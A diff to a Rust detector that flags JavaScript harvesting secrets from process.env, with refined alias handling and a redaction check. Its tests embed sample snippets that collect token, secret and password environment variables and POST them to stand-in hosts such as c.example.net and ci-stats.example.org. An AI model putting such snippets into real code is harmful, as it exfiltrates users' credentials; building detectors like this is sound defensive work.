@@ -311,10 +311,15 @@ fn secret_pattern_uses(text: &str) -> Vec<Src> {
         }
         let uses = format!("{}.test(", name.as_str());
         for (i, _) in text.match_indices(&uses).take(8) {
+            let env = walks_environment(text, i);
             out.push(Src {
                 off: i as u32,
-                kind: "values matching a secret pattern",
-                strong: false,
+                kind: if env {
+                    "environment variables picked by a secret-name pattern"
+                } else {
+                    "values matching a secret pattern"
+                },
+                strong: env,
                 name: String::new(),
             });
         }
@@ -323,17 +328,51 @@ fn secret_pattern_uses(text: &str) -> Vec<Src> {
 }
 
 /// Whether the pattern tested at `at` picks names out of the whole environment: a walk over
-/// `process.env` (or an alias named `env`) shortly before it. Every secret the machine holds,
-/// chosen by name, is a harvest whatever its size; a client reads its own key by its name.
+/// `process.env` (or `env`, or a name bound to `process.env`) shortly before it, and the test
+/// chooses (`if (P.test(k))`, `.filter`) rather than masks (`P.test(k) ? '[redacted]' : v`).
+/// Every secret the machine holds, chosen by name, is a harvest whatever its size; a client
+/// reads its own key by its name.
 fn walks_environment(text: &str, at: usize) -> bool {
     let walk = crate::regex!(
-        r"Object\.(?:keys|entries|getOwnPropertyNames)\(\s*(?:process\.)?env\s*\)|\bin\s+(?:process\.)?env\s*\)"
+        r"Object\.(?:keys|entries|getOwnPropertyNames)\(\s*([\w$.]+)\s*\)|\bin\s+([\w$.]+)\s*\)"
     );
+    let alias = crate::regex!(r"(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*process\.env\s*[;,\n]");
     let mut start = at.saturating_sub(400);
     while !text.is_char_boundary(start) {
         start -= 1;
     }
-    text.get(start..at).is_some_and(|w| walk.is_match(w))
+    let Some(window) = text.get(start..at) else {
+        return false;
+    };
+    let env_like = |w: &str| {
+        w == "process.env"
+            || w == "env"
+            || alias
+                .captures_iter(text)
+                .take(16)
+                .any(|c| c.get(1).is_some_and(|n| n.as_str() == w))
+    };
+    let walks = walk.captures_iter(window).any(|c| {
+        c.get(1)
+            .or(c.get(2))
+            .is_some_and(|w| env_like(w.as_str()))
+    });
+    walks && !masks(text, at)
+}
+
+/// Whether the `.test(…)` after `at` feeds a ternary (`P.test(k) ? '***' : v`): a redaction.
+fn masks(text: &str, at: usize) -> bool {
+    let Some(rest) = text.get(at..) else {
+        return false;
+    };
+    let Some(t) = rest.find(".test(").filter(|t| *t < 120) else {
+        return false;
+    };
+    let after = &rest[t + 6..];
+    let Some(close) = after.find(')').filter(|c| *c < 80) else {
+        return false;
+    };
+    after[close + 1..].trim_start().starts_with('?')
 }
 
 /// Whether a host is somewhere other than this machine or its private network.
@@ -708,5 +747,11 @@ mod tests {
         assert_eq!(severities(harvest), vec![crate::model::Severity::Critical]);
         let obj = "function ci(o) { const got = {}; for (const k of Object.keys(o)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = o[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()";
         assert_eq!(severities(obj), vec![crate::model::Severity::High]);
+        // A named pattern over an alias of the environment, as a filter: critical.
+        let alias = "const SEC = /token|secret|auth/i;\nconst e = process.env;\nfunction grab() { const keys = Object.keys(e).filter((k) => SEC.test(k)); fetch('https://c.example.net/x', { method: 'POST', body: JSON.stringify(keys.map((k) => e[k])) }) }\ngrab()";
+        assert_eq!(severities(alias), vec![crate::model::Severity::Critical]);
+        // Masking matches before a fixed-host send is a redaction: not a strong source.
+        let mask = "const SEC = /token|secret|auth/i;\nfunction report() { const out = {}; for (const k of Object.keys(process.env)) out[k] = SEC.test(k) ? '[redacted]' : process.env[k]; fetch('https://c.example.net/x', { method: 'POST', body: JSON.stringify(out) }) }\nreport()";
+        assert!(!severities(mask).contains(&crate::model::Severity::Critical));
     }
 }
